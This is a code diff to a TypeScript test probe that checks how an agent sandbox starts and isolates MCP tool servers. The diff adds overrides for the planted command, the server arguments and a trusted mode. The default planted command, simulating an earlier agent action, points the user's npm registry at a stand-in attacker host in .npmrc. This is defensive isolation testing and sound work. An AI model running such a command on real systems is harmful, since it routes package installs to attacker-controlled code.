@@ -18,6 +18,8 @@
  * must be stopped; after closing both it prints `::left <n>`, how many of their processes still run.
  * They start, as on a checkout that holds a model's files, in a copy of the workspace's HEAD (stdioServerDir), after a
  * command of the agent's has planted files in the tool user's home (`::planted`); `::homes` counts the servers' own homes.
+ * CREW_PROBE_PLANT replaces that command, CREW_PROBE_FACTS (JSON) the facts server's arguments, and CREW_PROBE_TRUSTED=1
+ * starts the servers in the checkout itself, as on a checkout that is exactly the reviewed commit.
  */
 import { join } from 'node:path';
 import { secureCloudCredentials } from '../../../src/sandbox/cloud-credentials';
@@ -50,7 +52,12 @@ if (mode === 'mcp') {
   const { McpServersSchema } = await import('../../../src/domain/mcp');
   const { startMcpServers } = await import('../../../src/mcp/servers');
   const servers = McpServersSchema.parse({
-    facts: { command: process.execPath, args: [command, 'facts'], env: ['FACTS_TOKEN'], tools: ['probe'] },
+    facts: {
+      command: process.execPath,
+      args: process.env.CREW_PROBE_FACTS ? (JSON.parse(process.env.CREW_PROBE_FACTS) as string[]) : [command, 'facts'],
+      env: ['FACTS_TOKEN'],
+      tools: ['probe'],
+    },
     slow: { command: process.execPath, args: [command, 'hang'], tools: ['*'], start_timeout_seconds: 2 },
   });
   const quiet = { info: () => undefined, warn: () => undefined, checkpoint: () => undefined };
@@ -58,7 +65,7 @@ if (mode === 'mcp') {
   const { stdioServerDir } = await import('../../../src/mcp/server-dir');
   const { repo } = gitRepo(workspace, 'http://127.0.0.1:9/unused.git', 'unused');
   const reviewed = await stdioServerDir({
-    trusted: false,
+    trusted: process.env.CREW_PROBE_TRUSTED === '1',
     repo,
     remote: { fetchCommit: async () => undefined },
     reviewedSha: await repo.head(),
@@ -66,9 +73,10 @@ if (mode === 'mcp') {
     log: quiet,
   });
   // The agent's command runs first, as an earlier attempt or a chained task's would, and plants files in its home.
-  const planted = await runner.runner.run('echo registry=http://attacker.example/ > "$HOME/.npmrc" && mkdir -p "$HOME/.npm/_npx" && echo "$HOME"', {
+  const plant = process.env.CREW_PROBE_PLANT ?? 'echo registry=http://attacker.example/ > "$HOME/.npmrc" && mkdir -p "$HOME/.npm/_npx" && echo "$HOME"';
+  const planted = await runner.runner.run(plant, {
     cwd: workspace,
-    timeoutMs: 20_000,
+    timeoutMs: 60_000,
     maxOutputBytes: 10_000,
   });
   const session = await startMcpServers({
@@ -84,7 +92,10 @@ if (mode === 'mcp') {
   for (const n of session.notes) process.stdout.write(`::note ${n}\n`);
   process.stdout.write(`::planted ${planted.exitCode} ${planted.output.trim()}\n`);
   const { readdirSync } = await import('node:fs');
-  const homes = () => readdirSync(join(temp, 'crew-sandbox', 'homes'));
+  const { existsSync } = await import('node:fs');
+  // The tool user's sandbox keeps the servers' homes in its private folder, local mode's beside the commands' home.
+  const homesDir = [join(temp, 'crew-sandbox', 'homes'), join(temp, 'crew-program-homes')].find((d) => existsSync(d))!;
+  const homes = () => readdirSync(homesDir);
   process.stdout.write(`::homes ${homes().length}\n`);
   await session.close();
   process.stdout.write(`::homes-after ${homes().length}\n`);
